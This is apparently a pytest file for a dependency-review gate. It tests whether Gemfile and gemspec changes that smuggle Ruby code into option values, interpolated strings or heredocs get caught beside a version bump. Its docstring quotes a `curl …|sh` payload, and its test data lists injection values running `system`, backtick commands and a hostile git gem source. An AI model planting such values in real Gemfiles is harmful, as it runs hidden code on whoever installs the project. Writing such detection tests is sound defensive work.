"""Attack 38: Ruby a Gemfile or a gemspec runs from inside a value or a comment-shaped line the delta skips.

Bundler evaluates a Gemfile (and the gemspec it names) as Ruby. The delta reads a `gem` line whole when after its
name and requirements come only `key: value` options, and the residue skips such lines, blanks and comments. But a
double-quoted value and the `%`, `%Q`, `%W`, `%I` literals interpolate `#{…}`, and an array value held any call
(`require: [system("…")]`): `gem "puma", "6.0.0", require: "#{system %q(curl …|sh)}"` runs at `bundle install`, yet
beside a bump of another gem it read as that bump alone (`gate --tree --enable deps`: exit 0). And a line inside a
heredoc or a string over lines that starts with `#` is text to Ruby, interpolated, not a comment: a gemspec's
`<<~DESC` description gained `#{spec.add_dependency "evil"}` unseen. Now a value is read only when it is a literal
(no `#` in an interpolating string or literal; an array of literals), and a line holding `#{` is never skipped as
a comment or a line read whole. Ruby is not installed here: the truth is Ruby's documented string syntax.
"""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from gitdiffs import commit_patch
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.deps import residue
from gatekeeper.deps.sources import patch_delta, tree_delta

GEMFILE = 'source "https://rubygems.org"\n\ngem "rails", "7.0.1"\ngem "puma", "6.0.0", require: false\n'
BUMP = GEMFILE.replace("7.0.1", "7.0.2")
# what runs: a new gem, a command
CALLS = ["gem %q(evil)", "system %q(id)", "gem('evil', git: 'https://x.example/e')", "`id`"]
# a value holding {call} that Ruby evaluates
VALUES = ['"#{{{call}}}"', '"pre#{{{call}}}"', "%W[#{{{call}}}]", "%[#{{{call}}}]", "%(#{{{call}}})",
          '["#{{{call}}}"]', "[{call}]", "[:mri, {call}]"]
KEYS = ["require", "group", "install_if", "platforms", "github", "autorequire"]
GEM_LINES = [(key, value.format(call=call)) for key in KEYS for value in VALUES for call in CALLS]
# heredoc or multi-line string bodies already in the base file, and the line an attacker adds inside them
GEMSPEC = ('Gem::Specification.new do |spec|\n  spec.name = "x"\n  spec.version = "1.0.0"\n'
           '  spec.description = <<~DESC\n    A gem.\n  DESC\n  spec.summary = "x\n  y"\n'
           '  spec.add_dependency "rack", "~> 3.0.1"\nend\n')
HOSTS = [("x.gemspec", GEMSPEC, "    A gem.\n"), ("x.gemspec", GEMSPEC, '  spec.summary = "x\n'),
         ("Gemfile", GEMFILE + "NOTES = <<~TXT\n  pinned\nTXT\n", "  pinned\n")]
INSIDE = ["#{{{call}}}\n", "# #{{{call}}}\n", "  #{{{call}}} more\n", '#{{{call}}} gem "rails", "7.0.2"\n']


def _bumped(path: str, text: str) -> str:
    return text.replace("7.0.1", "7.0.2") if path == "Gemfile" else text.replace("~> 3.0.1", "~> 3.0.2")


@each_case(("key", "value"), GEM_LINES, ids=[f"{k}={v}" for k, v in GEM_LINES])
def test_a_value_ruby_evaluates_is_no_option_read(key: str, value: str) -> None:
    """A gem line whose option value runs code is residue beside a bump, from the whole file and from its hunks."""
    head = BUMP.replace("require: false", f"{key}: {value}")
    assert residue.changed("Gemfile", GEMFILE.encode(), head.encode()), value
    assert residue.changed("Gemfile", GEMFILE.encode(), head.encode(), whole=False), value


@each_case(("host", "inside"), [(h, i) for h in range(len(HOSTS)) for i in INSIDE])
def test_an_interpolated_line_in_a_string_is_no_comment(tmp_path: Path, host: int, inside: str) -> None:
    """A line that interpolates, inside a heredoc or a string the base already opens, is residue in both modes."""
    path, base, anchor = HOSTS[host]
    for call in CALLS:
        head = _bumped(path, base).replace(anchor, anchor + inside.format(call=call))
        assert residue.changed(path, base.encode(), head.encode()), (path, head)
    repo, first, second = two_commits(tmp_path, {path: base}, {path: head})
    with repo.objects() as git:
        assert tree_delta(git, first, second).problems
    assert patch_delta(None, io.BytesIO(commit_patch(repo, first, second))).problems


@pytest.mark.parametrize("value", ['"#{system %q(id)}"', "[gem('evil')]", "%W[#{gem %q(evil)}]"])
def test_the_gate_reviews_code_in_a_gem_value(tmp_path: Path, value: str) -> None:
    """End to end under the shipped policy with `--enable deps`: exit 3 (main 1dfd7bd: 0)."""
    repo, first, second = two_commits(tmp_path, {"Gemfile": GEMFILE},
                                      {"Gemfile": BUMP.replace("require: false", f"require: {value}")})
    code, decision = tree_gate(tmp_path, first, second, None, "--enable", "deps")
    assert code == 3, decision


LITERALS = ["false", "'lib#{x}'", '"puma/cli"', "[:mri, :mingw]", '["a", "b"]', "%w[a b]", "%i[mri jruby]", ":test",
            "[]", "[:development, :test]"]


@each_case("value", LITERALS)
def test_a_literal_value_still_reads(value: str) -> None:
    """The look-alikes: literal values (a single-quoted `#{` does not interpolate) stay read; the bump alone moves."""
    base = GEMFILE.replace("require: false", f"require: {value}")
    assert not residue.changed("Gemfile", base.encode(), base.replace("7.0.1", "7.0.2").encode()), value


def test_a_comment_stays_a_comment() -> None:
    """A comment line added or changed beside a bump is no residue, in a Gemfile and a gemspec."""
    for path, base in (("Gemfile", GEMFILE), ("x.gemspec", GEMSPEC)):
        head = _bumped(path, base) + "# pinned: see https://x.example/i#42 and {this}\n"
        assert not residue.changed(path, base.encode(), head.encode()), path


def test_a_quoted_option_before_another_is_read_not_an_internal_error(tmp_path: Path) -> None:
    """manyfold3d/manyfold's Gemfile line (a quoted `github:` then `require: false`): on main 1dfd7bd the residue's
    pattern raised SystemError on Python 3.11.7 and the gate stopped with an internal error (exit 2); the bump beside
    it is now read and queued."""
    base = GEMFILE + '  gem "rubocop-pundit", github: "manyfold3d/rubocop-pundit", require: false\n'
    repo, first, second = two_commits(tmp_path, {"Gemfile": base}, {"Gemfile": base.replace("7.0.1", "7.0.2")})
    code, decision = tree_gate(tmp_path, first, second, None, "--enable", "deps")
    assert code == 0, decision
